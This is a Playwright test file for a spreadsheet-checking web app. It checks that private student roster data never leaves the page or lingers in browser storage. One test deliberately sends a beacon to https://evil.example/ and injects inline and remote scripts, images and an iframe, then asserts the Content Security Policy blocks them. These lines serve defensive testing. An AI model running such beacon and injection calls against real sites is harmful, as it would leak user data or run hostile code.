import { HostWorkbook, type CellValue } from '../../src/embedded-host/model';
import { saveXlsx } from '../../src/embedded-host/file';
import { ExcelPage } from './excel-page';
import type { Page, Request } from 'playwright-core';
import { startSite, WorkbenchPage, type Site } from './workbench-page';

let site: Site;
beforeAll(async () => {
  site = await startSite();
});
afterAll(() => site.close());

/** What only the sheet may know. */
const SECRETS = ['Quorvex', 'Zyltra', '7754321', '7754322', '7754323'];
const HEADINGS = ['Student ID', 'Student Name', 'School', 'Grade', 'ML Status', 'SDD', 'ESL Minutes'];
const ROWS: readonly (readonly CellValue[])[] = [
  ['7754321 ', 'Quorvex, Ana', 'Burke', 3, 'EL', 2, 45],
  ['7754322', 'Zyltra,  Rosa', 'Burke', 'K', 'EL', 'SDD 2', 45],
  ['7754323', 'Quorvex, Kim', 'Burke', 4, 'EL', '', '45 min'],
];

function school(): HostWorkbook {
  const workbook = new HostWorkbook('school.xlsx');
  const { cells } = workbook.addSheet('Roster');
  [HEADINGS, ...ROWS].forEach((row, at) => row.forEach((value, column) => cells.setContent(at, column, value)));
  return workbook;
}

/** Everything that leaves the page or stays behind it. */
interface Traces {
  readonly requests: Request[];
  readonly said: string[];
}

function watch(page: Page): Traces {
  const traces: Traces = { requests: [], said: [] };
  page.context().on('request', (request) => traces.requests.push(request));
  page.on('console', (message) => traces.said.push(message.text()));
  page.on('pageerror', (error) => traces.said.push(error.stack ?? error.message));
  return traces;
}

/** What the browser keeps for the page: storages, databases, caches, cookies, its address and title. */
async function kept(page: Page): Promise<string> {
  const inPage = await page.evaluate(async () => ({
    local: { ...localStorage },
    session: { ...sessionStorage },
    databases: await indexedDB.databases(),
    caches: 'caches' in window ? await caches.keys() : [],
    workers: 'serviceWorker' in navigator ? (await navigator.serviceWorker.getRegistrations()).length : 0,
    name: window.name,
    state: history.state as unknown,
    address: location.href,
    title: document.title,
  }));
  return JSON.stringify({ ...inPage, cookies: await page.context().cookies() });
}

async function expectNoTrace(page: Page, { requests, said }: Traces): Promise<void> {
  const sent = requests.map((request) => [request.method(), request.url(), request.postData() ?? ''].join(' '));
  const all = [...sent, ...said, await kept(page)];
  expect(all.filter((text) => SECRETS.some((secret) => text.includes(secret)))).toEqual([]);
  expect(sent.filter((text) => !text.startsWith('GET '))).toEqual([]);
  // Nothing but files: no address carries a question.
  const asked = requests.map((request) => new URL(request.url())).filter(({ protocol }) => protocol.startsWith('http'));
  expect(asked.filter(({ search, pathname }) => search !== '' && !pathname.endsWith('.html'))).toEqual([]);
  const { local, session, databases, cookies } = JSON.parse(await kept(page)) as Record<string, object>;
  expect({ local, session, databases, cookies }).toEqual({ local: {}, session: {}, databases: [], cookies: [] });
}

test('a whole visit to the workbench sends nothing and leaves nothing behind', async () => {
  const workbench = await WorkbenchPage.open(site);
  const { page, pane, watched } = workbench;
  const traces = watch(page);
  await workbench.openFile('school.xlsx', Buffer.from((await saveXlsx(school())).bytes));
  await pane.getByRole('button', { name: 'Check workbook' }).waitFor();
  await workbench.check();
  await workbench.cell('B2').getByText('Quorvex').waitFor();

  await pane.getByRole('button', { name: /cells? can be fixed for you/ }).click();
  await pane.getByRole('button', { name: /^Fix all \d+ cells/ }).click();
  await pane
    .getByRole('button', { name: /^Restore/ })
    .first()
    .waitFor();
  await workbench.choose('Reports');
  await pane.getByRole('button', { name: /^Write \d+ tabs?$/ }).click();
  await pane.getByRole('heading', { name: 'Just written' }).waitFor();
  const { name } = await workbench.save();

  expect(SECRETS.filter((secret) => name.includes(secret))).toEqual([]);
  expect(watched.errors).toEqual([]);
  expect(watched.foreignRequests).toEqual([]);
  await expectNoTrace(page, traces);
  await page.context().close();
});

test('the pane in Excel sends nothing and leaves nothing behind, also where Excel fails', async () => {
  const excel = await ExcelPage.open(site, school());
  const { page } = excel;
  const traces = watch(page);
  await page.getByRole('button', { name: 'Check again' }).waitFor();
  excel.host.faults.failNextSync('InvalidArgument');
  await page.getByRole('button', { name: 'Check again' }).click();
  const told = await page.getByRole('alert').innerText();
  expect(SECRETS.filter((secret) => told.includes(secret))).toEqual([]);
  expect(excel.wrong).toEqual([]);
  await expectNoTrace(page, traces);
  await page.context().close();
});

test('the page may reach nobody and run nothing of its own, even where a script tries', async () => {
  const { page } = await WorkbenchPage.open(site);
  const refused = await page.evaluate(async () => {
    const directives: string[] = [];
    Object.assign(window, { directives });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      directives.push(effectiveDirective),
    );
    const add = (name: string, change: (element: HTMLElement) => void) => {
      const element = document.createElement(name);
      change(element);
      document.body.append(element);
    };
    const own = await fetch(location.href).then(
      () => 'reached',
      () => 'stopped',
    );
    navigator.sendBeacon('https://evil.example/', 'x');
    add('script', (script) => (script.textContent = 'window.name = "ran"'));
    add('script', (script) => script.setAttribute('src', 'https://evil.example/x.js'));
    add('img', (image) => image.setAttribute('src', 'https://evil.example/x.png'));
    add('iframe', (frame) => frame.setAttribute('src', 'https://evil.example/'));
    return own;
  });
  const stopped = await page.waitForFunction(() => {
    const { directives } = window as unknown as { directives: string[] };
    return directives.length >= 6 && { directives: directives.sort(), ran: window.name };
  });
  expect(refused).toBe('stopped');
  expect(await stopped.jsonValue()).toEqual({
    directives: ['connect-src', 'connect-src', 'frame-src', 'img-src', 'script-src-elem', 'script-src-elem'],
    ran: '',
  });
  await page.context().close();
});
